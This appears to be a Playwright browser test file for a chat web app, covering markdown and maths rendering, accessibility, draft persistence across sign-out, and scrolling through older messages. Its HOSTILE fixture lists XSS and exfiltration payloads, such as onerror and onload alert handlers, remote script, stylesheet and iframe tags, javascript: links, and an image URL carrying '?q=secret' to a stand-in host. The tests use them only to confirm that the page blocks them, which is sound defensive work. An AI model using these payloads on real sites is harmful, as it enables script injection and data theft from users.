"""The chat page: what answers look like, and what they must not do."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.browser.axe import violations
from tests.browser.pages import ask, box, finished
from tests.fakes import Answer
from tests.system.light import SAYS, LightStack

pytestmark = pytest.mark.browser

RICH = """Tides, in short: $h = a \\cos t$.

$$
\\int_0^T h(t)\\,dt
$$

```python
print("a line that is longer than the column is wide, so that one has to scroll to its end", 1)
```

| hour | height |
|------|--------|
| 0    | 2 m    |

- [x] a table
- [ ] a boat

![a map](https://elsewhere.example/map.png) and [a link](https://elsewhere.example)."""

# frontend/src/chat/markdown.test.ts has the whole list; here is what a browser might load or run.
HOSTILE = """![](https://elsewhere.example/?q=secret) ![a](//elsewhere.example/c.png)

<img src=https://elsewhere.example/d.png onerror=alert(1)><svg onload=alert(1)></svg>

<script src=https://elsewhere.example/f.js></script><script>alert(1)</script>

<link rel=stylesheet href=https://elsewhere.example/g.css>
<link rel=prefetch href=https://elsewhere.example/g>
<link rel=dns-prefetch href=//elsewhere.example>

<style>@import url(https://elsewhere.example/h.css)</style>

<div style="background:url(https://elsewhere.example/i.png)">x</div>

<video autoplay src=https://elsewhere.example/j.mp4></video>
<iframe src=https://elsewhere.example></iframe>

<form action=https://elsewhere.example><button autofocus onfocus=alert(1)>x</button></form>

<meta http-equiv=refresh content="0;url=https://elsewhere.example">

[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>)

$\\href{https://elsewhere.example}{x} \\includegraphics{https://elsewhere.example/k.png}$

```"><img src=https://elsewhere.example/l.png>
</code><img src=https://elsewhere.example/m.png>
```

The end: $x^2$."""


@pytest.fixture
def says(light: LightStack) -> Iterator[LightStack]:
    """The light stack, which says again what it always says when the test is over."""
    yield light
    light.engine.play(SAYS)


def test_hostile_markdown_asks_nothing_of_anybody(light_page: Page, says: LightStack) -> None:
    asked, complaints = [], []
    light_page.on("request", lambda request: asked.append(request.url))
    light_page.on("dialog", lambda dialog: complaints.append(dialog.message))
    light_page.on("console", lambda said: complaints.append(said.text))
    says.engine.play(Answer(HOSTILE))

    ask(light_page, "Show me everything")

    expect(finished(light_page).locator(".katex").first).to_be_visible()
    assert [url for url in asked if not url.startswith((says.url, "data:"))] == []
    # A request that only the page's policy has stopped would be told on the console.
    assert [text for text in complaints if "Policy" in text or text == "1"] == []


def test_the_chat_page_breaks_no_rule_of_accessibility(light_page: Page, says: LightStack) -> None:
    says.engine.play(Answer(RICH))
    ask(light_page, "Show me everything")
    expect(finished(light_page).locator(".katex").first).to_be_visible()
    expect(finished(light_page).locator("code.hljs")).to_be_visible()

    for scheme in ("light", "dark"):
        light_page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
        assert violations(light_page) == []


def test_what_was_written_outlives_signing_out(light_page: Page) -> None:
    box(light_page).fill("Not yet finished")
    name = light_page.locator(".name").inner_text()

    light_page.get_by_role("button", name="Sign out").click()
    light_page.get_by_label("Name", exact=True).fill(name)
    light_page.get_by_label("Password").fill("correct horse")
    light_page.get_by_role("button", name="Sign in").click()

    expect(box(light_page)).to_have_value("Not yet finished")


MANY = """
from assistant.models import User
from tests import factories
where = factories.conversation(User.objects.get(username="{name}"), title="Tides")
last = None
for turn in range(60):
    asked = factories.said(where, f"Question {{turn}}", last)
    last = factories.answer(asked, f"Answer {{turn}}. " + "The moon pulls. " * (turn % 7))
print(where.pk)
"""


def test_older_messages_come_without_a_jump_of_what_is_read(
    light_page: Page, light: LightStack
) -> None:
    name = light_page.locator(".name").inner_text()
    where = light.manage("shell", "-v", "0", "-c", MANY.format(name=name)).strip()
    light_page.goto(f"/c/{where}")
    expect(light_page.get_by_text("Answer 59.")).to_be_visible()

    # Forty of the 120 messages are read at first: the oldest of them is Question 40.
    light_page.get_by_text("Question 40").scroll_into_view_if_needed()
    expect(light_page.get_by_text("Question 39")).to_be_attached()
    light_page.wait_for_timeout(300)

    expect(light_page.get_by_text("Question 40")).to_be_in_viewport()
